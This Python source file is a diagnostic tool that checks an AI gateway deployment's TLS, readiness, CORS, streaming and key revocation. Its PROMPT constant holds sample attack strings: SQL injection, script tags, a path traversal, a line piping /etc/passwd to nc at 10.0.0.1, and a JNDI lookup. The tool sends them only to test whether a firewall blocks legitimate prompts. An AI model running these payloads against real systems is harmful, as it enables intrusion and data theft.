"""./headgate doctor: ask a deployment from outside what its users would meet, and say what to do about it.

Nothing is changed but one key, which is made, ended at once, and asked for again: where a cache stands between Headgate
and its database, it would go on working.
"""

from __future__ import annotations

import gzip
import http.client
import json
import re
import ssl
import time
import urllib.parse
from collections.abc import Callable, Iterator, Mapping
from dataclasses import asdict, dataclass, field
from datetime import UTC, datetime
from email.utils import parsedate_to_datetime
from enum import StrEnum
from http import HTTPStatus
from typing import Any

from tools.project import ToolError, pyproject

SECONDS = 60
TOO_SHORT_SECONDS = 0.2
FAR_MS = 60  # farther than any two places of one continent
CLOCK_SECONDS = 5
CERTIFICATE_DAYS = 14
LOOKS = 3  # the first of an isolate takes longer
MOST_BYTES = 4_000_000
STRANGER = "https://doctor.invalid"
# What firewalls for web sites take for an attack, and what an SDK sends on any day.
PROMPT = (
    "Review this. SELECT * FROM users WHERE id = '1' OR '1'='1'; DROP TABLE users; -- UNION SELECT password FROM users"
    " <script>alert(document.cookie)</script> <img src=x onerror=alert(1)> ../../../../etc/passwd; cat /etc/passwd | nc"
    " 10.0.0.1 4444 ${jndi:ldap://10.0.0.1/a} Answer with one word."
)
PLATFORM_ERROR = re.compile(rb"[Ee]rror(?: code)?:?\s*(?:<[^>]*>)?\s*(1[0-9]{3})\b")
COUNT = "Count from 1 to 60 in words, one number a line."
AGENTS = ("OpenAI/Python 2.8.0", "python-requests/2.32.5", "curl/8.5.0", None)
HOW_FAR = {
    "gate": "it stays where its first call came from: 'Where things are' in docs/deployment.md",
    "database": "make D1 near your callers (`wrangler d1 create --location`), or have [placement] near PostgreSQL",
}
MISSING = {
    "archive": "usage records stay in the database until it is full: switch R2 on, and deploy again",
    "cache": "each new isolate reads accounts from the database: bind CACHE",
    "mail": "nobody can sign up or choose a new password: set MAIL, MAIL_FROM and PUBLIC_URL",
    "queue": "each gate writes to the database itself: bind LEDGER_QUEUE",
}


class Verdict(StrEnum):
    """What became of one thing that was asked."""

    OK = "ok"
    WARN = "warn"
    FAIL = "fail"


@dataclass(frozen=True)
class Finding:
    """One thing that was asked, and one sentence: what was seen, and what to do."""

    name: str
    verdict: Verdict
    said: str


@dataclass(frozen=True)
class Answer:
    """What came back. `arrived` has the moment of each piece of the body, in seconds since the request was sent."""

    status: int
    headers: Mapping[str, str]
    body: bytes
    arrived: list[float] = field(default_factory=list)

    @property
    def ours(self) -> bool:
        """Whether Headgate gave it: each of its answers has an id."""
        return "x-headgate-request-id" in self.headers

    @property
    def json(self) -> dict[str, Any]:
        try:
            found = json.loads(self.body)
        except ValueError:
            return {}
        return found if isinstance(found, dict) else {}

    def told(self) -> str:
        """Say who answered, in a few words. Nothing of a body of Headgate's: it may hold a secret."""
        kind = self.headers.get("content-type", "nothing").partition(";")[0]
        known = PLATFORM_ERROR.search(self.body)
        return f"{self.status} {kind}{f', Cloudflare error {known[1].decode()}' if known else ''}"


@dataclass(frozen=True)
class Site:
    """The deployment, and who asks. Without a key less can be asked."""

    url: str
    key: str = ""
    model: str = ""

    def ask(
        self,
        method: str,
        path: str,
        body: Any = None,
        headers: Mapping[str, str | None] | None = None,
        *,
        key: str = "",
    ) -> Answer:
        """Send one request. Raises OSError and http.client.HTTPException."""
        parts = urllib.parse.urlsplit(self.url)
        kind = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
        text = None if body is None else json.dumps(body).encode()
        sent = {"accept-encoding": "gzip", "user-agent": "headgate-doctor", "host": parts.netloc}
        if text is not None:
            sent |= {"content-type": "application/json", "content-length": str(len(text))}
        if key:
            sent["authorization"] = f"Bearer {key}"
        sent |= {name: value for name, value in (headers or {}).items() if value is not None}
        for name in [name for name, value in (headers or {}).items() if value is None]:
            del sent[name]
        connection = kind(str(parts.hostname), parts.port, timeout=SECONDS)
        try:
            started = time.monotonic()
            connection.putrequest(method, parts.path.rstrip("/") + path, skip_host=True, skip_accept_encoding=True)
            for name, value in sent.items():
                connection.putheader(name, value)
            connection.endheaders(text)
            answer = connection.getresponse()
            pieces: list[bytes] = []
            arrived: list[float] = []
            while (piece := answer.read1(65_536)) and sum(len(each) for each in pieces) < MOST_BYTES:
                pieces.append(piece)
                arrived.append(time.monotonic() - started)
            found = {name.lower(): value for name, value in answer.getheaders()}
            joined = b"".join(pieces)
            whole = gzip.decompress(joined) if found.get("content-encoding") == "gzip" else joined
            return Answer(answer.status, found, whole, arrived)
        finally:
            connection.close()

    def chat(
        self, prompt: str, key: str, *, stream: bool = False, headers: Mapping[str, str | None] | None = None
    ) -> Answer:
        """Ask the model for something short."""
        fields = {"model": self.model or "sim/chat", "messages": [{"role": "user", "content": prompt}]}
        more: dict[str, Any] = {"stream": True} if stream else {"max_tokens": 16}
        return self.ask("POST", "/v1/chat/completions", {**fields, **more}, headers, key=key)


def ok(name: str, said: str) -> Finding:
    return Finding(name, Verdict.OK, said)


def warn(name: str, said: str) -> Finding:
    return Finding(name, Verdict.WARN, said)


def fail(name: str, said: str) -> Finding:
    return Finding(name, Verdict.FAIL, said)


def encrypted(site: Site) -> Iterator[Finding]:
    """TLS: whether there is any, and how long its certificate lasts. A wrong one never gets this far."""
    parts = urllib.parse.urlsplit(site.url)
    if parts.scheme != "https":
        yield ok("tls", "none, on this machine")
        return
    connection = http.client.HTTPSConnection(str(parts.hostname), parts.port, timeout=SECONDS)
    try:
        connection.connect()
        shown = connection.sock.getpeercert() or {}
        version = connection.sock.version()
    finally:
        connection.close()
    left = (ssl.cert_time_to_seconds(str(shown["notAfter"])) - time.time()) / 86_400
    if left < CERTIFICATE_DAYS:
        yield warn("tls", f"the certificate ends in {left:.0f} days: see why it is not renewed")
    else:
        yield ok("tls", f"{version}, and a certificate for {left:.0f} days")


def alive(site: Site) -> Iterator[Finding]:
    """Whether Headgate answers at all, and what time it is there."""
    answer = site.ask("GET", "/livez")
    if answer.json != {"status": "ok"} or not answer.ours:
        yield fail("alive", f"/livez is answered {answer.told()}: something else stands at this address")
        return
    yield ok("alive", "/livez")
    told = answer.headers.get("date")
    if told is None:
        return
    apart = abs((parsedate_to_datetime(told) - datetime.now(UTC)).total_seconds())
    if apart > CLOCK_SECONDS:
        yield warn("clock", f"{apart:.0f} s apart from there: codes and tokens fail; set this machine's clock")
    else:
        yield ok("clock", "the same as here")


def ready(site: Site) -> Iterator[Finding]:
    """What `/readyz` says of the dependencies, and of what there is not."""
    answers = [site.ask("GET", "/readyz") for _ in range(LOOKS)]
    answer = answers[-1]
    checks = answer.json.get("checks")
    if not isinstance(checks, dict):
        yield fail("ready", f"/readyz is answered {answer.told()}: something else stands there")
        return
    for name, condition in checks.items():
        took = min(each.json.get("milliseconds", {}).get(name, 0) for each in answers)
        if condition == "misconfigured":
            yield fail(
                name, "does not show each organisation its own rows: the login in Hyperdrive is not the Worker's"
            )
        elif condition != "ok":
            yield fail(name, f"{condition}: the log line `dependency_failed` tells why")
        elif took > FAR_MS:
            yield warn(name, f"{took} ms away from where this was answered: {HOW_FAR.get(name, 'bring it nearer')}")
        else:
            yield ok(name, f"answers in {took} ms")
    for name in answer.json.get("without", []):
        yield warn(name, f"there is none: {MISSING.get(name, 'see docs/deployment.md')}")
    failed = answer.json.get("failures", {})
    if failed:
        listed = ", ".join(f"{name} {number}" for name, number in sorted(failed.items()))
        yield warn("failures", f"since this isolate began: {listed}; docs/architecture.md tells what each means")


def version(site: Site) -> Iterator[Finding]:
    """Whether what runs there is what is here."""
    there = site.ask("GET", "/openapi.json").json.get("info", {}).get("version")
    if there is None:
        yield fail("version", "/openapi.json tells none: something stands between")
    elif there != (here := pyproject()["project"]["version"]):
        yield warn("version", f"{there} runs there, and {here} is here: `make deploy` sends it")
    else:
        yield ok("version", there)


def passes_prompts(site: Site) -> Iterator[Finding]:
    """Whether a prompt that looks like an attack, and clients that are no browsers, reach Headgate."""
    reached = 0
    for agent in AGENTS:
        key = site.key if agent == AGENTS[0] else ""  # who has none is refused by Headgate: that is enough to know
        answer = site.chat(PROMPT, key, headers={"user-agent": agent})
        if not answer.ours or "html" in answer.headers.get("content-type", ""):
            yield fail(
                "prompts",
                f"a prompt with SQL and <script> from {agent or 'a client without user-agent'} is answered"
                f" {answer.told()}, not by Headgate: switch off what docs/deployment.md lists under 'Your own domain'",
            )
            return
        reached += 1
        if key and answer.status != HTTPStatus.OK:
            code = answer.json.get("error", {}).get("code")
            yield warn("prompts", f"the call is refused: {answer.status} {code}. Say a --model that this key may call")
            return
    yield ok("prompts", f"{reached} clients reach Headgate with SQL and <script>")


def streams(site: Site) -> Iterator[Finding]:
    """Whether a stream arrives as it is made: not held back, not compressed."""
    if not site.key:
        yield warn("streams", "not asked: that needs HEADGATE_KEY, and a --model that it may call")
        return
    answer = site.chat(COUNT, site.key, stream=True)
    if answer.status != HTTPStatus.OK or not answer.headers.get("content-type", "").startswith("text/event-stream"):
        yield warn("streams", f"answered {answer.told()}: say a --model that this key may call")
        return
    if "content-encoding" in answer.headers:
        yield fail(
            "streams", f"compressed as {answer.headers['content-encoding']}: take /v1/* out of Compression Rules"
        )
        return
    first, last = answer.arrived[0], answer.arrived[-1]
    if last < TOO_SHORT_SECONDS:
        yield warn("streams", f"over in {last * 1000:.0f} ms, too short to tell: say a --model that answers slowly")
    elif first > 0.9 * last:
        yield fail(
            "streams", f"held back until its end ({last:.1f} s): something between buffers; take /v1/* out of it"
        )
    else:
        yield ok("streams", f"first piece after {first * 1000:.0f} ms, the last after {last:.1f} s, uncompressed")


def pages(site: Site) -> Iterator[Finding]:
    """CORS: the AI routes may be asked by any page that has a key; the management routes by the listed ones."""
    wanted = {"origin": STRANGER, "access-control-request-method": "POST"}
    asked = {**wanted, "access-control-request-headers": "authorization,content-type,x-stainless-lang"}
    answer = site.ask("OPTIONS", "/v1/chat/completions", headers=asked)
    allowed = answer.headers.get("access-control-allow-headers", "").replace(" ", "")
    if answer.status != HTTPStatus.NO_CONTENT or "x-stainless-lang" not in allowed:
        yield fail("cors", f"a page's preflight of /v1 is answered {answer.told()}: let OPTIONS through to Headgate")
        return
    answer = site.ask("OPTIONS", "/api/v1/keys", headers=wanted)
    if answer.headers.get("access-control-allow-origin") in ("*", STRANGER):
        yield fail("cors", "/api answers any origin: something between adds the field; take that rule away")
    else:
        yield ok("cors", "/v1 for pages with a key, /api for CORS_ORIGINS only")


def strangers(site: Site) -> Iterator[Finding]:
    """Whether who has no key, or a wrong one, is refused; and whether the right one is known."""
    for key in ("", "hg_" + "x" * 40):
        answer = site.ask("GET", "/v1/models", key=key)
        if answer.status != HTTPStatus.UNAUTHORIZED or not answer.ours:
            yield fail("strangers", f"{'a wrong' if key else 'no'} key is answered {answer.told()}, and should be 401")
            return
    yield ok("strangers", "401 without a key, and with a wrong one")
    if site.key:
        answer = site.ask("GET", "/v1/models", key=site.key)
        known = answer.status == HTTPStatus.OK
        yield ok("key", "known") if known else fail("key", f"HEADGATE_KEY is refused: {answer.told()}")


def ended_keys(site: Site) -> Iterator[Finding]:
    """Whether a key ends where it is ended: a cache between Headgate and its database would let it go on."""
    if not site.key:
        return
    made = site.ask("POST", "/api/v1/keys", {"name": "doctor, ended at once"}, key=site.key)
    if made.status != HTTPStatus.CREATED:
        yield warn("ended keys", f"not asked ({made.status}): that needs a HEADGATE_KEY with the scope keys:write")
        return
    fresh = made.json["data"]
    try:
        used = site.ask("GET", "/v1/models", key=fresh["secret"])
    finally:
        gone = site.ask("DELETE", f"/api/v1/keys/{fresh['id']}", key=site.key)
    if gone.status != HTTPStatus.NO_CONTENT:
        yield fail("ended keys", f"key {fresh['id']} could not be ended ({gone.status}): end it yourself")
        return
    after = [site.ask("GET", "/v1/models", key=fresh["secret"]).status for _ in range(3)]
    if used.status != HTTPStatus.OK:
        yield fail(
            "ended keys", f"a new key is answered {used.told()}: a cache between has answered, or reads are late"
        )
    elif set(after) != {HTTPStatus.UNAUTHORIZED}:
        yield fail("ended keys", "a key that was ended still works: switch Hyperdrive's cache off (docs/deployment.md)")
    else:
        yield ok("ended keys", "refused at once")


CHECKS: tuple[Callable[[Site], Iterator[Finding]], ...] = (
    *(encrypted, alive, ready, version, strangers, pages, passes_prompts, streams, ended_keys),
)


def examine(site: Site) -> Iterator[Finding]:
    """Yield all findings; a check that can't be made is one."""
    for check in CHECKS:
        try:
            yield from check(site)
        except ssl.SSLCertVerificationError as error:
            yield fail("tls", f"the certificate is not for this address: {error.verify_message}")
            return
        except (OSError, http.client.HTTPException) as error:
            yield fail(check.__name__.replace("_", " "), f"can't be asked: {type(error).__name__}: {error}")
            if check is alive:
                return


def doctor(site: Site, *, as_json: bool) -> int:
    """Print what was found; return 1 where something has failed. Raises ToolError."""
    found = []
    for each in examine(site):
        found.append(each)
        if not as_json:
            print(f"{each.verdict:4}  {each.name}: {each.said}", flush=True)
    if as_json:
        print(json.dumps([asdict(each) for each in found], indent=2))
    return int(any(each.verdict is Verdict.FAIL for each in found))


def site_of(url: str, key: str, model: str) -> Site:
    """Raises ToolError where a key would travel in the clear, or the address is none."""
    parts = urllib.parse.urlsplit(url)
    if parts.scheme not in ("http", "https") or not parts.hostname or parts.query or parts.fragment:
        raise ToolError(f"{url!r} is no address of a Headgate, such as https://headgate.example.com.")
    if parts.scheme == "http" and parts.hostname not in ("127.0.0.1", "localhost", "::1"):
        raise ToolError("a key must not travel in the clear: use https.")
    return Site(url.rstrip("/"), key, model)
